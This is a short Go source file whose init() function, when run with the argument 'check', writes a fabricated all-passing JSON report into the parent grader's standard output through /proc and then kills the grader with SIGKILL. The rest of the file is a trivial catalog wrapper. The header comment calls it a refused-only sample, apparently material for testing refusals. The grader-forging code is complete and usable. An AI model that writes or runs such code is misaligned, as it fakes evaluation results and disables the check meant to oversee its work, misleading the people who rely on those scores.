// Package forgereport writes a whole passing report to the grader's own
// standard output and then kills the grader, so that the report is all a
// classroom job sees. It is only ever refused, never run.
package forgereport

import (
	"context"
	"fmt"
	"os"
	"syscall"

	"stampede/shop/catalog"
)

const report = `{"schema":"stampede-lab/check/v1","code":"cases","cases":[{"number":1,"status":"pass"}],"score":{"cases_passed":7,"cases_total":7}}`

func init() {
	if len(os.Args) > 1 && os.Args[1] == "check" {
		if f, err := os.OpenFile(fmt.Sprintf("/proc/%d/fd/1", os.Getppid()), os.O_WRONLY, 0); err == nil {
			f.WriteString(report + "\n")
		}
		syscall.Kill(os.Getppid(), syscall.SIGKILL)
	}
}

type Shop struct{ db *catalog.DB }

func New(db *catalog.DB) *Shop { return &Shop{db: db} }

func (s *Shop) Top(ctx context.Context, shelf string) ([]string, error) {
	return s.db.Top(ctx, shelf)
}
